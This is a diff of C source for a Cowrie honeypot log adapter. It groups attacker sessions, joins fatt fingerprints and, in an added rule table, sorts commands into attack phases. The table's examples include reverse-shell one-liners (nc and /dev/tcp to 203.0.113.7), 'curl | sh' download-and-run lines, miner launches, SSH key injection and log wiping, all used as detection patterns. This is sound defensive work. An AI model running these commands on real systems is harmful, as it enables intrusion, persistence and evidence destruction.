@@ -1,11 +1,14 @@
 /*  cowrie.c - the Cowrie adapter (see cowrie.h and docs/cowrie.md).
 
-    Sources live in an array in first-seen order; each owns its sessions, and each session
-    owns the few events that carry content (commands, logins, files) as small copies. Two
-    hash maps (owned keys, XXH3) find a source by IP and a session by "ip \x1f session".
-    Times are folded into each session's first/last as events arrive, so order does not
-    matter for them; content events are sorted by (time, arrival) when the observation is
-    built, which undoes the reordering Cowrie does within one second.
+    Open sources are individually allocated and found by their group key through a hash map
+    (owned keys, XXH3, linear probing with backward-shift deletion, so idle sources can be
+    forgotten); each carries a first-seen serial that orders emission. A source owns its
+    sessions (found through a per-source map) and each session owns the few events that
+    carry content (commands, logins, files, tunnels) as small copies. Times are folded into
+    each session's first/last as events arrive, so order does not matter for them; content
+    events are sorted by (time, arrival) when the observation is built, which undoes the
+    reordering Cowrie does within one second, and then cut into runs of one phase. fatt
+    records live in an array chained per (ip, port) key until the adapter is destroyed.
 */
 #include "cowrie.h"
 
@@ -15,25 +18,32 @@
 #include "xalloc.h"
 
 #include <assert.h>
+#include <math.h>
 #include <stdbool.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <xxhash.h>
 
-/*  Longest src_ip accepted, so that "cowrie:" + ip fits OBS_MAX_ID. */
-#define S_MAX_IP 200
+/*  Longest src_ip and sensor used in a group key, so that "cowrie:ip@sensor~N" fits
+    OBS_MAX_ID. A longer sensor is left out of the key. */
+#define S_MAX_IP 120
+#define S_MAX_SENSOR 100
 /*  Content events kept per session: enough for OBS_MAX_ITEMS commands and credentials. */
 #define S_MAX_EVENTS (2 * (size_t)OBS_MAX_ITEMS)
+/*  Words of one simple command looked at by the rule table and the C2 parser. */
+#define S_MAX_WORDS 64
 
 /*  What a kept event contributes. */
 typedef enum {
     S_EV_COMMAND,      /* cowrie.command.input: a: the command */
     S_EV_COMMAND_ALSO, /* cowrie.command.failed / .success: a: the command, if not seen */
-    S_EV_LOGIN_FAILED, /* cowrie.login.failed: a: username, b: password */
-    S_EV_LOGIN_OK,     /* cowrie.login.success: a: username, b: password */
-    S_EV_DOWNLOAD,     /* cowrie.session.file_download: a: shasum, b: url host */
-    S_EV_UPLOAD        /* cowrie.session.file_upload: a: shasum */
+    S_EV_DROPPED,      /* a COMMAND_ALSO repeating an input line (set when building) */
+    S_EV_LOGIN,        /* cowrie.login.failed / .success: a: username, b: password */
+    S_EV_PUBKEY,       /* cowrie.client.fingerprint: a: username, b: "publickey:<fp>" */
+    S_EV_DOWNLOAD,     /* cowrie.session.file_download(.failed): a: shasum, b: url host */
+    S_EV_UPLOAD,       /* cowrie.session.file_upload: a: shasum */
+    S_EV_TUNNEL        /* cowrie.direct-tcpip.request: no strings */
 } s_kind_t;
 
 /*  One kept event. */
@@ -45,28 +55,6 @@ typedef struct {
     char *b;       /* second string, owned, or NULL */
 } s_event_t;
 
-/*  One Cowrie session of a source. */
-typedef struct {
-    char *id;          /* Cowrie session id, owned */
-    char *decky;       /* first sensor seen, owned, or NULL */
-    double first;      /* earliest event time */
-    double last;       /* latest event time */
-    s_event_t *events; /* content events, in arrival order */
-    size_t n_events;   /* number of events */
-    size_t cap;        /* slots in events */
-} s_session_t;
-
-/*  One source IP: the future observation. */
-typedef struct {
-    char *ip;              /* src_ip, owned */
-    char *hassh;           /* first cowrie.client.kex hassh, owned, or NULL */
-    char *hassh_legacy;    /* HASSH computed from a version event's lists, owned, or NULL */
-    char *version;         /* last client version, b'' stripped, owned, or NULL */
-    s_session_t *sessions; /* sessions in first-seen order */
-    size_t n_sessions;     /* number of sessions */
-    size_t cap;            /* slots in sessions */
-} s_source_t;
-
 /*  An open-addressing map from an owned string key to an index. */
 typedef struct {
     char **keys;   /* slot keys, owned, NULL = empty */
@@ -75,30 +63,90 @@ typedef struct {
     size_t n_slot; /* slots, a power of two (0 before first insert) */
 } s_map_t;
 
+/*  One Cowrie session of a source. */
+typedef struct {
+    char *id;          /* Cowrie session id, owned */
+    char *decky;       /* first sensor seen, owned, or NULL */
+    double first;      /* earliest event time */
+    double last;       /* latest event time */
+    long src_port;     /* src_port of cowrie.session.connect, -1 when not seen */
+    double connect_t;  /* time of that connect event */
+    s_event_t *events; /* content events, in arrival order */
+    size_t n_events;   /* number of events */
+    size_t cap;        /* slots in events */
+} s_session_t;
+
+/*  One open source: the future observation. Allocated alone, owned by the adapter. */
+typedef struct {
+    char *key;             /* group key: src_ip or "src_ip@sensor", owned */
+    char *ip;              /* src_ip, owned */
+    uint64_t serial;       /* first-seen order among all sources ever opened */
+    uint64_t instance;     /* 1 for a key's first observation, 2, 3... after idle flushes */
+    double last;           /* latest event time of the source */
+    bool closed;           /* idle, then returned: replaced in by_key by its next instance */
+    char *hassh;           /* first cowrie.client.kex hassh, owned, or NULL */
+    char *hassh_legacy;    /* HASSH computed from a version event's lists, owned, or NULL */
+    char *version;         /* last client version, b'' stripped, owned, or NULL */
+    s_session_t *sessions; /* sessions in first-seen order */
+    size_t n_sessions;     /* number of sessions */
+    size_t cap;            /* slots in sessions */
+    s_map_t by_session;    /* session id -> index in sessions */
+} s_source_t;
+
+/*  One kept fatt record. */
+typedef struct {
+    double t;    /* record time, or NAN when it had none */
+    char *hassh; /* client HASSH, owned, or NULL */
+    char *ja3;   /* client JA3, owned, or NULL */
+    size_t prev; /* the previous record of the same (ip, port), or SIZE_MAX */
+} s_fatt_t;
+
 struct cowrie_t {
-    s_source_t *sources;                        /* open sources in first-seen order */
-    size_t n_sources;                           /* number of open sources */
-    size_t cap;                                 /* slots in sources */
-    s_map_t by_ip;                              /* ip -> index in sources */
-    s_map_t by_session;                         /* "ip\x1fsession" -> session index */
+    cowrie_opts_t opts;                         /* options, copied */
+    s_source_t **slots;                         /* open sources by slot; NULL = free slot */
+    size_t n_slots;                             /* slots used (free ones included) */
+    size_t cap;                                 /* slots allocated */
+    size_t *free_slots;                         /* free slot indices, a stack */
+    size_t n_free;                              /* entries in free_slots */
+    size_t free_cap;                            /* slots allocated in free_slots */
+    s_map_t by_key;                             /* group key -> slot */
+    s_map_t returns;                            /* group key -> observations emitted (idle) */
+    s_fatt_t *fatt;                             /* fatt records kept */
+    size_t n_fatt;                              /* number of fatt records */
+    size_t fatt_cap;                            /* slots in fatt */
+    s_map_t fatt_by_conn;                       /* "ip\x1fport" -> latest record index */
+    uint64_t serial;                            /* sources opened so far */
     uint64_t seq;                               /* events kept so far */
+    double now;                                 /* latest event time fed */
+    double scanned;                             /* now at the last idle scan */
+    size_t open;                                /* sources open */
+    size_t open_peak;                           /* most sources open at once */
     uint64_t lines;                             /* lines fed */
     uint64_t bad;                               /* bad lines */
-    uint64_t sessions;                          /* sessions opened */
+    uint64_t sessions;                          /* Cowrie sessions opened */
+    uint64_t cadre_sessions;                    /* cadre sessions emitted */
     uint64_t observations;                      /* observations emitted */
+    uint64_t fatt_lines;                        /* fatt lines fed */
+    uint64_t fatt_bad;                          /* bad fatt lines */
+    uint64_t fatt_joined;                       /* cadre sessions with a fatt join */
     cowrie_bad_t reported[COWRIE_MAX_REPORTED]; /* first bad lines */
     size_t n_reported;                          /* entries used in reported */
-    char sha_321[DIGEST_SHA256_HEX];            /* sha256 of "321\n", an echo artefact */
 };
 
 /* -------------------------------------------------------------------------------------------
     The string map */
 
 static size_t
+s_hash(const char *key)
+{
+    return (size_t)XXH3_64bits(key, strlen(key));
+}
+
+static size_t
 s_map_slot(const s_map_t *m, const char *key)
 {
     size_t mask = m->n_slot - 1;
-    size_t i = (size_t)XXH3_64bits(key, strlen(key)) & mask;
+    size_t i = s_hash(key) & mask;
     while (m->keys[i] && strcmp(m->keys[i], key) != 0) {
         i = (i + 1) & mask;
     }
@@ -116,12 +164,19 @@ s_map_get(const s_map_t *m, const char *key)
     return m->keys[i] ? m->vals[i] : SIZE_MAX;
 }
 
-/*  Stores key (copied) -> val; key must not be present yet. */
+/*  Stores key (copied) -> val, replacing the value when key is present. */
 static void
 s_map_put(s_map_t *m, const char *key, size_t val)
 {
+    if (m->n_slot > 0) {
+        size_t i = s_map_slot(m, key);
+        if (m->keys[i]) {
+            m->vals[i] = val;
+            return;
+        }
+    }
     if ((m->n + 1) * 4 > m->n_slot * 3) {
-        s_map_t grown = {.n_slot = m->n_slot ? m->n_slot * 2 : 64};
+        s_map_t grown = {.n_slot = m->n_slot ? m->n_slot * 2 : 8};
         grown.keys = xcalloc(grown.n_slot, sizeof *grown.keys);
         grown.vals = xcalloc(grown.n_slot, sizeof *grown.vals);
         for (size_t i = 0; i < m->n_slot; i++) {
@@ -143,6 +198,35 @@ s_map_put(s_map_t *m, const char *key, size_t val)
     m->n++;
 }
 
+/*  Removes key (absent: no-op), shifting later entries of its probe run back. */
+static void
+s_map_del(s_map_t *m, const char *key)
+{
+    if (m->n_slot == 0) {
+        return;
+    }
+    size_t mask = m->n_slot - 1;
+    size_t i = s_map_slot(m, key);
+    if (!m->keys[i]) {
+        return;
+    }
+    free(m->keys[i]);
+    m->keys[i] = NULL;
+    m->n--;
+    for (size_t j = (i + 1) & mask; m->keys[j]; j = (j + 1) & mask) {
+        size_t home = s_hash(m->keys[j]) & mask;
+        /* The entry at j may move to the hole at i unless its home lies cyclically in
+           (i, j]. */
+        bool stays = i <= j ? (home > i && home <= j) : (home > i || home <= j);
+        if (!stays) {
+            m->keys[i] = m->keys[j];
+            m->vals[i] = m->vals[j];
+            m->keys[j] = NULL;
+            i = j;
+        }
+    }
+}
+
 static void
 s_map_clear(s_map_t *m)
 {
@@ -158,51 +242,77 @@ s_map_clear(s_map_t *m)
     Lifecycle */
 
 cowrie_t *
-cowrie_new(void)
+cowrie_new(const cowrie_opts_t *opts)
 {
     cowrie_t *self = xcalloc(1, sizeof *self);
-    digest_sha256_hex("321\n", 4, self->sha_321);
+    if (opts) {
+        self->opts = *opts;
+    }
+    self->now = -INFINITY;
+    self->scanned = -INFINITY;
     return self;
 }
 
 static void
-s_sources_clear(cowrie_t *self)
+s_source_free(s_source_t *src)
 {
-    for (size_t i = 0; i < self->n_sources; i++) {
-        s_source_t *src = &self->sources[i];
-        for (size_t j = 0; j < src->n_sessions; j++) {
-            s_session_t *ss = &src->sessions[j];
-            for (size_t k = 0; k < ss->n_events; k++) {
-                free(ss->events[k].a);
-                free(ss->events[k].b);
-            }
-            free(ss->events);
-            free(ss->id);
-            free(ss->decky);
+    for (size_t j = 0; j < src->n_sessions; j++) {
+        s_session_t *ss = &src->sessions[j];
+        for (size_t k = 0; k < ss->n_events; k++) {
+            free(ss->events[k].a);
+            free(ss->events[k].b);
         }
-        free(src->sessions);
-        free(src->ip);
-        free(src->hassh);
-        free(src->hassh_legacy);
-        free(src->version);
+        free(ss->events);
+        free(ss->id);
+        free(ss->decky);
     }
-    free(self->sources);
-    self->sources = NULL;
-    self->n_sources = 0;
-    self->cap = 0;
-    s_map_clear(&self->by_ip);
-    s_map_clear(&self->by_session);
+    free(src->sessions);
+    s_map_clear(&src->by_session);
+    free(src->key);
+    free(src->ip);
+    free(src->hassh);
+    free(src->hassh_legacy);
+    free(src->version);
+    free(src);
+}
+
+/*  Forgets the source in slot i. */
+static void
+s_source_drop(cowrie_t *self, size_t i)
+{
+    s_source_t *src = self->slots[i];
+    if (!src->closed) {
+        s_map_del(&self->by_key, src->key);
+    }
+    s_source_free(src);
+    self->slots[i] = NULL;
+    xgrow(&self->free_slots, &self->free_cap, self->n_free + 1);
+    self->free_slots[self->n_free++] = i;
+    self->open--;
 }
 
 void
 cowrie_destroy(cowrie_t **self_p)
 {
-    assert(self_p);
     cowrie_t *self = *self_p;
     if (!self) {
         return;
     }
-    s_sources_clear(self);
+    for (size_t i = 0; i < self->n_slots; i++) {
+        if (self->slots[i]) {
+            s_source_free(self->slots[i]);
+        }
+    }
+    free(self->slots);
+    free(self->free_slots);
+    s_map_clear(&self->by_key);
+    s_map_clear(&self->returns);
+    for (size_t i = 0; i < self->n_fatt; i++) {
+        free(self->fatt[i].hassh);
+        free(self->fatt[i].ja3);
+    }
+    free(self->fatt);
+    s_map_clear(&self->fatt_by_conn);
     free(self);
     *self_p = NULL;
 }
@@ -323,9 +433,9 @@ s_url_host(const char *url)
     Feeding */
 
 static int
-s_bad(cowrie_t *self, uint64_t line_no, int rc, const char *message)
+s_bad(cowrie_t *self, uint64_t *counter, uint64_t line_no, int rc, const char *message)
 {
-    self->bad++;
+    (*counter)++;
     if (self->n_reported < COWRIE_MAX_REPORTED) {
         cowrie_bad_t *b = &self->reported[self->n_reported++];
         b->line_no = line_no;
@@ -334,19 +444,48 @@ s_bad(cowrie_t *self, uint64_t line_no, int rc, const char *message)
     return rc;
 }
 
+/*  The open source of ip (and sensor, when grouping by sensor) for an event at time t,
+    opened if new. With flush_idle, a source idle for longer than that before t is closed
+    (cowrie_emit_idle emits it) and a new instance opened. */
 static s_source_t *
-s_source_for(cowrie_t *self, const char *ip)
+s_source_for(cowrie_t *self, const char *ip, const char *sensor, double t)
 {
-    size_t i = s_map_get(&self->by_ip, ip);
+    bool by_sensor = self->opts.group == COWRIE_GROUP_IP_SENSOR && sensor && sensor[0] &&
+                     strlen(sensor) <= S_MAX_SENSOR;
+    char *key = by_sensor ? xasprintf("%s@%s", ip, sensor) : xstrdup(ip);
+    size_t i = s_map_get(&self->by_key, key);
+    uint64_t instance = 0;
     if (i != SIZE_MAX) {
-        return &self->sources[i];
+        s_source_t *old = self->slots[i];
+        if (!(self->opts.flush_idle > 0 && t - old->last > self->opts.flush_idle)) {
+            free(key);
+            return old;
+        }
+        old->closed = true;
+        instance = old->instance;
+        s_map_del(&self->by_key, key);
+    } else {
+        size_t emitted = s_map_get(&self->returns, key);
+        instance = emitted == SIZE_MAX ? 0 : (uint64_t)emitted;
     }
-    xgrow(&self->sources, &self->cap, self->n_sources + 1);
-    s_source_t *src = &self->sources[self->n_sources];
-    memset(src, 0, sizeof *src);
+    s_source_t *src = xcalloc(1, sizeof *src);
+    src->key = key;
     src->ip = xstrdup(ip);
-    s_map_put(&self->by_ip, ip, self->n_sources);
-    self->n_sources++;
+    src->serial = self->serial++;
+    src->instance = instance + 1;
+    src->last = -INFINITY;
+    if (self->n_free > 0) {
+        i = self->free_slots[--self->n_free];
+    } else {
+        xgrow(&self->slots, &self->cap, self->n_slots + 1);
+        i = self->n_slots++;
+    }
+    self->slots[i] = src;
+    s_map_put(&self->by_key, key, i);
+    self->open++;
+    if (self->open > self->open_peak) {
+        self->open_peak = self->open;
+    }
     return src;
 }
 
@@ -355,23 +494,24 @@ s_source_for(cowrie_t *self, const char *ip)
 static s_session_t *
 s_session_for(cowrie_t *self, s_source_t *src, const char *id, double t)
 {
-    char *key = xasprintf("%s\x1f%s", src->ip, id);
-    size_t i = s_map_get(&self->by_session, key);
-    s_session_t *ss = NULL;
+    size_t i = s_map_get(&src->by_session, id);
     if (i != SIZE_MAX) {
-        ss = &src->sessions[i];
-    } else if (src->n_sessions < OBS_MAX_SESSIONS) {
-        xgrow(&src->sessions, &src->cap, src->n_sessions + 1);
-        ss = &src->sessions[src->n_sessions];
-        memset(ss, 0, sizeof *ss);
-        ss->id = xstrdup(id);
-        ss->first = t;
-        ss->last = t;
-        s_map_put(&self->by_session, key, src->n_sessions);
-        src->n_sessions++;
-        self->sessions++;
+        return &src->sessions[i];
     }
-    free(key);
+    if (src->n_sessions >= OBS_MAX_SESSIONS) {
+        return NULL;
+    }
+    xgrow(&src->sessions, &src->cap, src->n_sessions + 1);
+    s_session_t *ss = &src->sessions[src->n_sessions];
+    memset(ss, 0, sizeof *ss);
+    ss->id = xstrdup(id);
+    ss->first = t;
+    ss->last = t;
+    ss->src_port = -1;
+    ss->connect_t = t;
+    s_map_put(&src->by_session, id, src->n_sessions);
+    src->n_sessions++;
+    self->sessions++;
     return ss;
 }
 
@@ -389,7 +529,7 @@ s_keep(cowrie_t *self, s_session_t *ss, double t, s_kind_t kind, char *a, char *
         (s_event_t){.t = t, .seq = self->seq++, .kind = kind, .a = a, .b = b};
 }
 
-/*  A copy of s when it is present and at most max bytes, else NULL. */
+/*  Takes *s over when it is present and at most max bytes; else NULL (*s is left). */
 static char *
 s_take(char **s, size_t max)
 {
@@ -401,11 +541,32 @@ s_take(char **s, size_t max)
     return v;
 }
 
+/*  The command text of a cowrie.command.input event: "input", or for old Cowrie versions
+    that log only a message, the text after "CMD: ". Owned, or NULL. */
+static char *
+s_command_text(jsonio_cowrie_event_t *ev)
+{
+    if (ev->input) {
+        return s_take(&ev->input, OBS_MAX_TEXT);
+    }
+    if (ev->message && strncmp(ev->message, "CMD: ", 5) == 0 &&
+        strlen(ev->message + 5) <= OBS_MAX_TEXT) {
+        return xstrdup(ev->message + 5);
+    }
+    return NULL;
+}
+
 /*  Applies one well-formed event. */
 static void
 s_apply(cowrie_t *self, jsonio_cowrie_event_t *ev, double t)
 {
-    s_source_t *src = s_source_for(self, ev->src_ip);
+    s_source_t *src = s_source_for(self, ev->src_ip, ev->sensor, t);
+    if (t > src->last) {
+        src->last = t;
+    }
+    if (t > self->now) {
+        self->now = t;
+    }
     s_session_t *ss = s_session_for(self, src, ev->session, t);
     if (!ss) {
         return;
@@ -420,8 +581,13 @@ s_apply(cowrie_t *self, jsonio_cowrie_event_t *ev, double t)
         ss->decky = s_take(&ev->sensor, OBS_MAX_SHORT);
     }
     const char *id = ev->eventid;
-    if (strcmp(id, "cowrie.command.input") == 0) {
-        char *cmd = s_take(&ev->input, OBS_MAX_TEXT);
+    if (strcmp(id, "cowrie.session.connect") == 0) {
+        if (ev->src_port >= 0 && ss->src_port < 0) {
+            ss->src_port = ev->src_port;
+            ss->connect_t = t;
+        }
+    } else if (strcmp(id, "cowrie.command.input") == 0) {
+        char *cmd = s_command_text(ev);
         if (cmd) {
             s_keep(self, ss, t, S_EV_COMMAND, cmd, NULL);
         }
@@ -432,16 +598,25 @@ s_apply(cowrie_t *self, jsonio_cowrie_event_t *ev, double t)
             s_keep(self, ss, t, S_EV_COMMAND_ALSO, cmd, NULL);
         }
     } else if (strcmp(id, "cowrie.login.failed") == 0 || strcmp(id, "cowrie.login.success") == 0) {
-        s_kind_t kind = id[13] == 'f' ? S_EV_LOGIN_FAILED : S_EV_LOGIN_OK;
         /* A login without a username or password still counts as an attempt (for the
            phase) but contributes no credential pair. */
-        s_keep(self, ss, t, kind, s_take(&ev->username, OBS_MAX_TEXT),
+        s_keep(self, ss, t, S_EV_LOGIN, s_take(&ev->username, OBS_MAX_TEXT),
                s_take(&ev->password, OBS_MAX_TEXT));
-    } else if (strcmp(id, "cowrie.session.file_download") == 0) {
+    } else if (strcmp(id, "cowrie.client.fingerprint") == 0) {
+        /* A public-key login attempt: the key's fingerprint stands in for the password. */
+        char *pass = ev->fingerprint && strlen(ev->fingerprint) <= OBS_MAX_SHORT
+                         ? xasprintf("publickey:%s", ev->fingerprint)
+                         : NULL;
+        char *user = s_take(&ev->username, OBS_MAX_TEXT);
+        s_keep(self, ss, t, S_EV_PUBKEY, user ? user : xstrdup(""), pass);
+    } else if (strcmp(id, "cowrie.session.file_download") == 0 ||
+               strcmp(id, "cowrie.session.file_download.failed") == 0) {
         char *host = ev->url ? s_url_host(ev->url) : NULL;
         s_keep(self, ss, t, S_EV_DOWNLOAD, s_take(&ev->shasum, OBS_MAX_SHORT), host);
     } else if (strcmp(id, "cowrie.session.file_upload") == 0) {
         s_keep(self, ss, t, S_EV_UPLOAD, s_take(&ev->shasum, OBS_MAX_SHORT), NULL);
+    } else if (strcmp(id, "cowrie.direct-tcpip.request") == 0) {
+        s_keep(self, ss, t, S_EV_TUNNEL, NULL, NULL);
     } else if (strcmp(id, "cowrie.client.kex") == 0) {
         if (!src->hassh && ev->hassh && strlen(ev->hassh) <= OBS_MAX_FINGERPRINT) {
             src->hassh = s_take(&ev->hassh, OBS_MAX_FINGERPRINT);
@@ -461,22 +636,29 @@ s_apply(cowrie_t *self, jsonio_cowrie_event_t *ev, double t)
     }
 }
 
+static bool
+s_blank(const char *line, size_t len)
+{
+    for (size_t i = 0; i < len; i++) {
+        if (line[i] != ' ' && line[i] != '\t' && line[i] != '\r' && line[i] != '\n') {
+            return false;
+        }
+    }
+    return true;
+}
+
 int
 cowrie_feed(cowrie_t *self, const char *line, size_t len, uint64_t line_no)
 {
     self->lines++;
-    size_t i = 0;
-    while (i < len && (line[i] == ' ' || line[i] == '\t' || line[i] == '\r' || line[i] == '\n')) {
-        i++;
-    }
-    if (i == len) {
+    if (s_blank(line, len)) {
         return 0;
     }
     jsonio_cowrie_event_t ev;
     obs_error_t err;
     int rc = jsonio_cowrie_event(line, len, line_no, &ev, &err);
     if (rc != 0) {
-        return s_bad(self, line_no, rc, err.message);
+        return s_bad(self, &self->bad, line_no, rc, err.message);
     }
     const char *missing = !ev.eventid     ? "eventid"
                           : !ev.src_ip    ? "src_ip"
@@ -487,18 +669,389 @@ cowrie_feed(cowrie_t *self, const char *line, size_t len, uint64_t line_no)
     double t = 0.0;
     if (missing) {
         snprintf(message, sizeof message, "event has no string field '%s'", missing);
-        rc = s_bad(self, line_no, CADRE_ERECORD, message);
+        rc = s_bad(self, &self->bad, line_no, CADRE_ERECORD, message);
     } else if (cowrie_parse_time(ev.timestamp, &t) != 0) {
-        rc = s_bad(self, line_no, CADRE_ERECORD, "timestamp is not an ISO-8601 UTC time");
+        rc = s_bad(self, &self->bad, line_no, CADRE_ERECORD,
+                   "field 'timestamp' is not an ISO-8601 UTC time");
     } else if (strlen(ev.src_ip) == 0 || strlen(ev.src_ip) > S_MAX_IP) {
-        rc = s_bad(self, line_no, CADRE_ERECORD, "src_ip is empty or too long");
-    } else if (strlen(ev.session) > OBS_MAX_ID) {
-        rc = s_bad(self, line_no, CADRE_ERECORD, "session id is too long");
+        rc = s_bad(self, &self->bad, line_no, CADRE_ERECORD, "field 'src_ip' is empty or too long");
+    } else if (strlen(ev.session) > COWRIE_MAX_SESSION_ID) {
+        rc = s_bad(self, &self->bad, line_no, CADRE_ERECORD, "field 'session' is too long");
     } else {
         s_apply(self, &ev, t);
     }
     jsonio_cowrie_event_clear(&ev);
     return rc;
+}
+
+int
+cowrie_bad_line(cowrie_t *self, uint64_t line_no, const char *message)
+{
+    self->lines++;
+    return s_bad(self, &self->bad, line_no, CADRE_ERECORD, message);
+}
+
+int
+cowrie_event_time(const char *line, size_t len, double *t)
+{
+    jsonio_cowrie_event_t ev;
+    obs_error_t err;
+    if (jsonio_cowrie_event(line, len, 0, &ev, &err) != 0) {
+        return CADRE_ERECORD;
+    }
+    int rc = ev.timestamp ? cowrie_parse_time(ev.timestamp, t) : CADRE_ERECORD;
+    jsonio_cowrie_event_clear(&ev);
+    return rc;
+}
+
+int
+cowrie_fatt_feed(cowrie_t *self, const char *line, size_t len, uint64_t line_no)
+{
+    self->fatt_lines++;
+    if (s_blank(line, len)) {
+        return 0;
+    }
+    jsonio_fatt_record_t rec;
+    obs_error_t err;
+    int rc = jsonio_fatt_record(line, len, line_no, &rec, &err);
+    if (rc != 0) {
+        return s_bad(self, &self->fatt_bad, line_no, rc, err.message);
+    }
+    char *hassh = s_take(&rec.hassh, OBS_MAX_FINGERPRINT);
+    char *ja3 = s_take(&rec.ja3, OBS_MAX_FINGERPRINT);
+    if (rec.src_ip && strlen(rec.src_ip) <= S_MAX_IP && rec.src_port >= 0 && (hassh || ja3)) {
+        double t = NAN;
+        if (rec.timestamp && cowrie_parse_time(rec.timestamp, &t) != 0) {
+            t = NAN;
+        }
+        char *key = xasprintf("%s\x1f%ld", rec.src_ip, rec.src_port);
+        xgrow(&self->fatt, &self->fatt_cap, self->n_fatt + 1);
+        self->fatt[self->n_fatt] = (s_fatt_t){
+            .t = t, .hassh = hassh, .ja3 = ja3, .prev = s_map_get(&self->fatt_by_conn, key)};
+        s_map_put(&self->fatt_by_conn, key, self->n_fatt);
+        self->n_fatt++;
+        free(key);
+    } else {
+        free(hassh);
+        free(ja3);
+    }
+    jsonio_fatt_record_clear(&rec);
+    return 0;
+}
+
+/* -------------------------------------------------------------------------------------------
+    The phase rule table and the command parser */
+
+/*  Rows in priority order (docs/cowrie.md). The example of each row is a command that row
+    matches and no earlier row does; the unit tests run every one. */
+static const cowrie_rule_t s_rules[] = {
+    {UKC_IMPACT, COWRIE_RULE_SUBSTRING, "xmrig", "./xmrig --donate-level 1 -B"},
+    {UKC_IMPACT, COWRIE_RULE_SUBSTRING, "xmr-stak", "nohup ./xmr-stak --noUAC &"},
+    {UKC_IMPACT, COWRIE_RULE_SUBSTRING, "minerd", "./minerd -a scrypt -B"},
+    {UKC_IMPACT, COWRIE_RULE_SUBSTRING, "cpuminer", "./cpuminer-multi -B"},
+    {UKC_IMPACT, COWRIE_RULE_SUBSTRING, "stratum+tcp", "./run -o stratum+tcp://pool.example:3333"},
+    {UKC_IMPACT, COWRIE_RULE_SUBSTRING, "stratum+ssl", "./run -o stratum+ssl://pool.example:443"},
+    {UKC_IMPACT, COWRIE_RULE_SUBSTRING, "kdevtmpfsi", "pkill -9 kdevtmpfsi"},
+    {UKC_DELIVERY, COWRIE_RULE_SUBSTRING, "scp -t", "scp -t /tmp/nprmcfm7"},
+    {UKC_LATERAL_MOVEMENT, COWRIE_RULE_PROGRAM, "ssh", "ssh root@10.0.0.5 'uname -a'"},
+    {UKC_LATERAL_MOVEMENT, COWRIE_RULE_PROGRAM, "scp", "scp /tmp/x root@10.0.0.5:/tmp/"},
+    {UKC_LATERAL_MOVEMENT, COWRIE_RULE_PROGRAM, "sshpass", "sshpass -p pw rsync -a x 10.0.0.5:"},
+    {UKC_COMMAND_AND_CONTROL, COWRIE_RULE_TRANSFER, "wget curl tftp ftpget nc ncat netcat",
+     "nc 203.0.113.7 4444 -e /bin/sh"},
+    {UKC_COMMAND_AND_CONTROL, COWRIE_RULE_SUBSTRING, "wget", "wget -q -O - $URL | sh"},
+    {UKC_COMMAND_AND_CONTROL, COWRIE_RULE_SUBSTRING, "curl", "curl -s $URL | sh"},
+    {UKC_COMMAND_AND_CONTROL, COWRIE_RULE_SUBSTRING, "tftp", "tftp -h"},
+    {UKC_COMMAND_AND_CONTROL, COWRIE_RULE_SUBSTRING, "ftpget", "ftpget --help"},
+    {UKC_COMMAND_AND_CONTROL, COWRIE_RULE_SUBSTRING, "/dev/tcp/",
+     "bash -i >/dev/tcp/203.0.113.7/4444 0<&1"},
+    {UKC_PERSISTENCE, COWRIE_RULE_SUBSTRING, "authorized_keys",
+     "echo ssh-rsa AAAA >> ~/.ssh/authorized_keys"},
+    {UKC_PERSISTENCE, COWRIE_RULE_SUBSTRING, "crontab", "crontab -l"},
+    {UKC_PERSISTENCE, COWRIE_RULE_SUBSTRING, "/etc/cron", "echo x > /etc/cron.d/x"},
+    {UKC_PERSISTENCE, COWRIE_RULE_SUBSTRING, "chpasswd", "echo root:x|chpasswd"},
+    {UKC_PERSISTENCE, COWRIE_RULE_SUBSTRING, "/etc/rc.local", "echo /tmp/x >> /etc/rc.local"},
+    {UKC_PERSISTENCE, COWRIE_RULE_SUBSTRING, "systemctl enable", "systemctl enable x.service"},
+    {UKC_PERSISTENCE, COWRIE_RULE_SUBSTRING, "update-rc.d", "update-rc.d x defaults"},
+    {UKC_PERSISTENCE, COWRIE_RULE_SUBSTRING, "/etc/init.d/", "cp x /etc/init.d/x"},
+    {UKC_PERSISTENCE, COWRIE_RULE_PROGRAM, "useradd", "useradd -m admin2"},
+    {UKC_PERSISTENCE, COWRIE_RULE_PROGRAM, "adduser", "adduser admin2"},
+    {UKC_PERSISTENCE, COWRIE_RULE_PROGRAM, "usermod", "usermod -aG sudo admin2"},
+    {UKC_PERSISTENCE, COWRIE_RULE_PROGRAM, "passwd", "passwd root"},
+    {UKC_DEFENSE_EVASION, COWRIE_RULE_SUBSTRING, "history -c", "history -c"},
+    {UKC_DEFENSE_EVASION, COWRIE_RULE_SUBSTRING, "HISTFILE", "unset HISTFILE"},
+    {UKC_DEFENSE_EVASION, COWRIE_RULE_SUBSTRING, "HISTSIZE=0", "export HISTSIZE=0"},
+    {UKC_DEFENSE_EVASION, COWRIE_RULE_SUBSTRING, "rm -rf /var/log", "rm -rf /var/log/*"},
+    {UKC_DEFENSE_EVASION, COWRIE_RULE_SUBSTRING, "/var/log/wtmp", "cat /dev/null > /var/log/wtmp"},
+    {UKC_DEFENSE_EVASION, COWRIE_RULE_SUBSTRING, "chattr", "chattr -ia .ssh"},
+    {UKC_DEFENSE_EVASION, COWRIE_RULE_SUBSTRING, "setenforce 0", "setenforce 0"},
+    {UKC_DEFENSE_EVASION, COWRIE_RULE_SUBSTRING, "ufw disable", "ufw disable"},
+    {UKC_DEFENSE_EVASION, COWRIE_RULE_SUBSTRING, "iptables -F", "iptables -F"},
+    {UKC_DISCOVERY, COWRIE_RULE_SUBSTRING, "uname", "uname -a"},
+    {UKC_DISCOVERY, COWRIE_RULE_SUBSTRING, "whoami", "whoami"},
+    {UKC_DISCOVERY, COWRIE_RULE_SUBSTRING, "/proc/cpuinfo", "cat /proc/cpuinfo | grep name"},
+    {UKC_DISCOVERY, COWRIE_RULE_SUBSTRING, "/proc/meminfo", "cat /proc/meminfo"},
+    {UKC_DISCOVERY, COWRIE_RULE_SUBSTRING, "nproc", "nproc --all"},
+    {UKC_DISCOVERY, COWRIE_RULE_SUBSTRING, "lscpu", "lscpu | grep Model"},
+    {UKC_DISCOVERY, COWRIE_RULE_SUBSTRING, "ifconfig", "ifconfig eth0"},
+    {UKC_DISCOVERY, COWRIE_RULE_SUBSTRING, "free -", "free -m"},
+    {UKC_DISCOVERY, COWRIE_RULE_SUBSTRING, "/etc/os-release", "cat /etc/os-release"},
+    {UKC_DISCOVERY, COWRIE_RULE_SUBSTRING, "/etc/issue", "cat /etc/issue"},
